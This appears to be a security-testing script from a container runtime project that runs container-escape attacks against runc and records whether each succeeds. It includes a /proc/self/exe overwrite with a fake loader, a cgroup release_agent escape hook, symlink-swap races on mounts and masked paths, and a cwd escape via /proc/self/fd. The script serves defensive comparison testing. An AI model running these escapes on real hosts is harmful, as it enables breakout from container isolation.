// The attacks of test/integration/attacks/, run by hand against runc (a copy of
// /usr/sbin/runc in a /run/lxcri-attack-prefix-* directory) for the comparison in
// test/integration/attacks/README.md. Not a test: it prints what happened.
//   bun test/tools/runc-attacks.ts [exe|hooks|rundir|created|reads|procwrites|mountrace|maskrace|stracecheck|cwd|all]
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmdirSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import {
  attackTool,
  bundle,
  fakeLoader,
  hashTree,
  hostMarker,
  hostMounts,
  logLines,
  measure,
  newMounts,
  outDir,
  outMount,
  plant,
  processFile,
  removeScratch,
  run,
  tempDir,
  NOBODY,
  MAPPED_ROOT,
  straceCommand,
  parseStrace,
  CODE_FILE,
  unsafeComponent,
  cleanEnv,
} from "../integration/attacks/attack-helpers.ts";

const R = "/run/runc-attack";
const which = process.argv[2] ?? "all";
const prefix = mkdtempSync("/run/lxcri-attack-prefix-runc-");
chmodSync(prefix, 0o755);
mkdirSync(join(prefix, "bin"));
const RUNC = join(prefix, "bin", "runc");
copyFileSync("/usr/sbin/runc", RUNC);
chmodSync(RUNC, 0o755);
const rc = (args: string[], opts: Parameters<typeof run>[1] = {}) => run([RUNC, "--root", R, ...args], { timeoutMs: 20000, ...opts });
const del = (id: string) => rc(["delete", "--force", id]);
const say = (...a: unknown[]) => console.log(...a);

async function exe() {
  const out = outDir("rexe");
  const b = bundle(["sleep", "60"], (s) => s.mounts!.push(outMount(out)));
  plant(b, "/evil", { text: "#!/proc/self/exe\n" });
  plant(b, "/lib64/ld-linux-x86-64.so.2", fakeLoader());
  plant(b, "/pwn", attackTool());
  const before = hashTree(prefix);
  say("create", rc(["create", "--bundle", b, "rexe"]).stderr.trim());
  say("start", rc(["start", "rexe"]).stderr.trim());
  const r = rc(["exec", "rexe", "/evil"]);
  say("exec /evil:", r.code, r.stderr.trim().slice(0, 300));
  await Bun.sleep(7000);
  say(logLines(join(out, "exe-attack.log")).join("\n"));
  say("prefix unchanged:", JSON.stringify(hashTree(prefix)) === JSON.stringify(before));
  // init from a created container
  del("rexe");
  say("create", rc(["create", "--bundle", b, "rexe2"]).stderr.trim());
  const p = processFile(
    b,
    ["sh", "-c", "for p in /proc/[0-9]*; do /pwn reopen $p/exe /out/exe-attack2.log 0.5 lxcri-attack-prefix; done; true"],
    { allCaps: true },
  );
  rc(["exec", "--process", p, "rexe2"]);
  say(logLines(join(out, "exe-attack2.log")).join("\n"));
  del("rexe2");
}

function hooks() {
  const out = outDir("rhooks");
  const dump = (f: string) =>
    `while read -r k v; do case "$k" in Cap*|Seccomp:|NoNewPrivs:) echo "$k $v";; esac; done < /proc/self/status > ${f}`;
  const b = bundle(["sh", "-c", dump("/out/process")], (s) => {
    s.mounts!.push(outMount(out));
    s.linux!.seccomp = { defaultAction: "SCMP_ACT_ALLOW", syscalls: [{ names: ["kexec_load"], action: "SCMP_ACT_ERRNO", errnoRet: 1 }] };
    s.hooks = { startContainer: [{ path: "/bin/sh", args: ["sh", "-c", dump("/out/hook")] }] };
  });
  const r = rc(["run", "--bundle", b, "rhooks"]);
  say("run:", r.code, r.stderr.trim());
  say("process:", readFileSync(join(out, "process"), "utf8"));
  say("hook:", existsSync(join(out, "hook")) ? readFileSync(join(out, "hook"), "utf8") : "(none)");
  del("rhooks");
  // release_agent
  const out2 = outDir("rhooks2");
  const marker = hostMarker();
  const b2 = bundle(["sleep", "30"], (s) => {
    s.mounts!.push(outMount(out2));
    s.linux!.namespaces = s.linux!.namespaces!.filter((n) => n.type !== "cgroup");
    s.hooks = { startContainer: [{ path: "/escape.sh" }] };
  });
  plant(b2, "/payload.sh", { text: `#!/bin/sh\ntouch ${marker}\n` });
  plant(b2, "/escape.sh", {
    text: `#!/bin/sh\nexec >>/out/escape.log 2>&1\nmkdir -p /dev/cg; mount -t cgroup -o none,name=lxcriattack cgroup /dev/cg && echo mounted || echo "mount failed"\nexit 0\n`,
  });
  rc(["create", "--bundle", b2, "rhooks2"]);
  const s = rc(["start", "rhooks2"]);
  say("escape start:", s.code, s.stderr.trim(), logLines(join(out2, "escape.log")).join(" | "), "marker:", existsSync(marker));
  del("rhooks2");
}

function rundir() {
  const b = bundle(["sleep", "60"], (s) => {
    s.linux!.namespaces!.push({ type: "user" });
    s.linux!.uidMappings = [{ containerID: 0, hostID: MAPPED_ROOT, size: 65536 }];
    s.linux!.gidMappings = [{ containerID: 0, hostID: MAPPED_ROOT, size: 65536 }];
    s.process!.env!.push("SECRET_TOKEN=xyz");
    s.hooks = { poststop: [{ path: "/bin/true", env: ["HOOK_SECRET=abc"] }] };
  });
  chmodSync(b, 0o755);
  const c = rc(["create", "--bundle", b, "rdir"]);
  say("create:", c.code, c.stderr.trim());
  say(run(["ls", "-laR", R]).stdout);
  say("nobody reads:", run(["sh", "-c", `cat ${R}/rdir/state.json | head -c 100`], { as: NOBODY }).stderr.trim());
  say("100000 reads:", run(["sh", "-c", `cat ${R}/rdir/state.json | head -c 100; touch ${R}/rdir/x`], { as: MAPPED_ROOT }).stderr.trim());
  del("rdir");
}

async function created() {
  const out = outDir("rcreated");
  const b = bundle(["sh", "-c", "touch /out/started; sleep 60"], (s) => s.mounts!.push(outMount(out)));
  plant(b, "/pwn", attackTool());
  rc(["create", "--bundle", b, "rcr"]);
  const pid = JSON.parse(rc(["state", "rcr"]).stdout).pid;
  say(
    "mounts:",
    readFileSync(`/proc/${pid}/mountinfo`, "utf8")
      .split("\n")
      .map((l) => l.split(" ")[4])
      .join(" "),
  );
  rc([
    "exec",
    "rcr",
    "sh",
    "-c",
    "find / \\( -path /proc -o -path /sys \\) -prune -o \\( -type p -o -type s \\) -print > /out/ipc 2>/dev/null; /pwn poke /out/poke.log x $(cat /out/ipc) /proc/1/fd/*",
  ]);
  await Bun.sleep(500);
  say("ipc:", readFileSync(join(out, "ipc"), "utf8").trim(), "| poke:", logLines(join(out, "poke.log")).join(" | "));
  say("state:", JSON.parse(rc(["state", "rcr"]).stdout).status, "started:", existsSync(join(out, "started")));
  del("rcr");
}

async function reads() {
  for (const [what, make] of [
    ["/dev/zero", (p: string) => symlinkSync("/dev/zero", p)],
    ["fifo", (p: string) => run(["mkfifo", p])],
    ["2 GiB sparse", (p: string) => (writeFileSync(p, ""), truncateSync(p, 2 * 1024 ** 3))],
  ] as const) {
    const b = bundle(["sleep", "60"], (s) => s.process!.env!.push("HOME=/root"));
    const c = rc(["create", "--bundle", b, "rreads"]);
    const st = rc(["start", "rreads"]);
    // swapped in once the container runs (runc looks the user up at create too)
    rmSync(join(b, "rootfs/etc/passwd"));
    make(join(b, "rootfs/etc/passwd"));
    say(`create ${c.code} ${c.stderr.trim().slice(0, 200)}; start ${st.code} ${st.stderr.trim().slice(0, 200)}`);
    const p = processFile(b, ["sh", "-c", "echo $HOME"], { env: ["PATH=/bin"] });
    const r = await measure([RUNC, "--root", R, "exec", "--process", p, "rreads"], { timeoutMs: 15000, killAboveKb: 300 * 1024 });
    say(
      `passwd ${what}: exit ${r.code} ${Math.round(r.ms)} ms ${Math.round(r.rssKb / 1024)} MB killed=${r.killedFor} ${r.stdout.trim()} ${r.stderr.trim().slice(0, 200)}`,
    );
    del("rreads");
  }
}

function procwrites() {
  for (const mode of ["rw", "ro"]) {
    const host = tempDir("rproc");
    writeFileSync(join(host, "ip_forward"), "HOST FILE\n");
    const b = bundle(["sleep", "30"], (s) => {
      s.linux!.readonlyPaths = s.linux!.readonlyPaths!.filter((p) => p !== "/proc/sys");
      s.mounts!.push({ destination: "/proc/sys/net/ipv4", type: "bind", source: host, options: ["rbind", mode] });
      s.linux!.sysctl = { "net.ipv4.ip_forward": "1" };
    });
    const c = rc(["create", "--bundle", b, "rproc"]);
    say(
      `proc ${mode}: create ${c.code} ${c.stderr.trim().slice(0, 200)}; host file now ${JSON.stringify(readFileSync(join(host, "ip_forward"), "utf8"))}`,
    );
    del("rproc");
  }
}

function mountrace() {
  const NAME = `lxcri-attack-race-runc-${process.pid}`;
  const vol = tempDir("rvol");
  chmodSync(vol, 0o755);
  mkdirSync(join(vol, "d"));
  symlinkSync("/", join(vol, "lnk"));
  const before = hostMounts();
  const a = bundle(["/pwn", "swap", "/vol/d", "/vol/lnk", "25"], (s) => s.mounts!.push(outMount(vol, "/vol")));
  plant(a, "/pwn", attackTool());
  rc(["create", "--bundle", a, "rswap"]);
  rc(["start", "rswap"]);
  const outcomes: Record<string, number> = {};
  for (let i = 0; i < 25; i++) {
    const b = bundle(["sleep", "30"], (s) =>
      s.mounts!.push(outMount(vol, "/vol"), { destination: `/vol/d/${NAME}`, type: "tmpfs", source: "tmpfs", options: ["size=1m"] }),
    );
    const c = rc(["create", "--bundle", b, `rv${i}`]);
    const k =
      c.code === 0
        ? "created"
        : c.stderr
            .trim()
            .replace(/.*msg="/, "")
            .slice(0, 90);
    outcomes[k] = (outcomes[k] ?? 0) + 1;
    del(`rv${i}`);
  }
  del("rswap");
  say("mount race:", JSON.stringify(outcomes), "host dir:", existsSync(`/${NAME}`), "new mounts:", newMounts(before));
  try {
    rmdirSync(`/${NAME}`);
  } catch {
    /* not made: good */
  }
}

function maskrace() {
  const v = tempDir("rvictim");
  writeFileSync(join(v, "victim-file"), "HOST VICTIM\n");
  const a = bundle(["sh", "-c", "/pwn swap /mf /mf.lnk 25 & /pwn swap /m /m.lnk 25 & wait"], (s) => (s.root!.readonly = false));
  const shared = join(a, "rootfs");
  plant(a, "/pwn", attackTool());
  writeFileSync(join(shared, "mf"), "IMAGE SECRET\n");
  mkdirSync(join(shared, "m"));
  symlinkSync(join(v, "victim-file"), join(shared, "mf.lnk"));
  symlinkSync(v, join(shared, "m.lnk"));
  rc(["create", "--bundle", a, "rmask"]);
  rc(["start", "rmask"]);
  const outcomes: Record<string, number> = {};
  for (let i = 0; i < 15; i++) {
    const b = bundle(["sleep", "30"], (s) => {
      s.root = { path: shared, readonly: true };
      s.linux!.maskedPaths!.push("/mf", "/m");
    });
    const c = rc(["create", "--bundle", b, `rm${i}`]);
    let k =
      c.code === 0
        ? "created"
        : "refused: " +
          c.stderr
            .trim()
            .replace(/.*msg="/, "")
            .slice(0, 80);
    if (c.code === 0) {
      const pid = JSON.parse(rc(["state", `rm${i}`]).stdout).pid;
      const mps = readFileSync(`/proc/${pid}/mountinfo`, "utf8")
        .split("\n")
        .map((l) => l.split(" ")[4]);
      k += ["/mf", "/m"].map((p) => (mps.includes(p) ? ` ${p} masked` : ` ${p} NOT masked`)).join("");
    }
    outcomes[k] = (outcomes[k] ?? 0) + 1;
    del(`rm${i}`);
  }
  del("rmask");
  say("mask race:", JSON.stringify(outcomes));
}

async function stracecheck() {
  const b = mkdtempSync("/run/lxcri-attack-bundle-");
  chmodSync(b, 0o755);
  (await import("../../scripts/make-bundle.ts")).makeBundle(b, ["sleep", "60"]);
  const T = tempDir("rtmp");
  chmodSync(T, 0o1777);
  const env = cleanEnv({ TMPDIR: T });
  const tr = tempDir("rtrace");
  const calls = [];
  for (const [n, args] of [
    ["create", ["create", "--bundle", b, "rst"]],
    ["start", ["start", "rst"]],
    ["exec", ["exec", "rst", "true"]],
    ["kill", ["kill", "rst", "KILL"]],
    ["delete", ["delete", "--force", "rst"]],
  ] as const) {
    run([...straceCommand(join(tr, n)), RUNC, "--root", R, ...args], { env, timeoutMs: 20000 });
    calls.push(...parseStrace(readFileSync(join(tr, n), "utf8")));
  }
  const bad = new Set<string>();
  for (const c of calls)
    if ((c.kind === "exec" || CODE_FILE.test(c.path)) && unsafeComponent(c.path))
      bad.add(`${c.kind} ${c.path}: ${unsafeComponent(c.path)}`);
  say("strace runc:", calls.length, "calls; unsafe:", [...bad]);
  say("execs:", [...new Set(calls.filter((c) => c.kind === "exec").map((c) => c.path))].join(" "));
  rmSync(b, { recursive: true, force: true });
}

function cwd() {
  const res: string[] = [];
  for (let n = 3; n <= 8; n++) {
    const b = bundle(
      ["sh", "-c", "ls -a / | tr '\\n' ' '; echo; ls -a ../../../../../.. | tr '\\n' ' '"],
      (s) => (s.process!.cwd = `/proc/self/fd/${n}`),
    );
    const r = rc(["run", "--bundle", b, `rcwd${n}`]);
    const [own, climbed] = r.stdout.split("\n");
    res.push(
      `${n}: ${
        r.code !== 0
          ? `refused: ${r.stderr
              .trim()
              .replace(/.*msg="/, "")
              .slice(0, 160)}`
          : own === climbed
            ? "inside"
            : `OUTSIDE: ${climbed}`
      }`,
    );
    del(`rcwd${n}`);
  }
  say("cwd:", res.join(" | "));
}

try {
  const all: Record<string, () => unknown> = { exe, hooks, rundir, created, reads, procwrites, mountrace, maskrace, stracecheck, cwd };
  for (const [k, f] of Object.entries(all))
    if (which === "all" || which === k) {
      say(`==== ${k}`);
      await f();
    }
} finally {
  for (const id of existsSync(R) ? readdirSync(R) : []) del(id);
  rmSync(prefix, { recursive: true, force: true });
  rmSync(R, { recursive: true, force: true });
  removeScratch();
}
